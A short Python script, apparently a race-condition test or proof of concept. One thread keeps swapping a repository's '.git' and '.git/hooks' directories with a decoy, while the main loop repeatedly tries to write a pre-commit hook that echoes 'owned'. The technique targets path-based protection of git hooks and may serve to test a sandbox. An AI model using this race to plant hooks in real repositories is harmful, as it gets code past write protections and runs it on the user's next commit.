"""Exchanges the repository's directory and writes a hook by its name, at the same time and again and again."""

import contextlib
import ctypes
import threading
import time
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
Path("other/hooks").mkdir(parents=True)
over = threading.Event()


def swap() -> None:
    while not over.is_set():
        for one, other in ((b".git", b"other"), (b".git/hooks", b"other/hooks")):
            libc.renameat2(-100, one, -100, other, 2)


swapper = threading.Thread(target=swap)
swapper.start()
deadline = time.monotonic() + 0.3
while time.monotonic() < deadline:
    with contextlib.suppress(OSError):
        Path(".git/hooks/pre-commit").write_text("#!/bin/sh\necho owned\n")
over.set()
swapper.join()
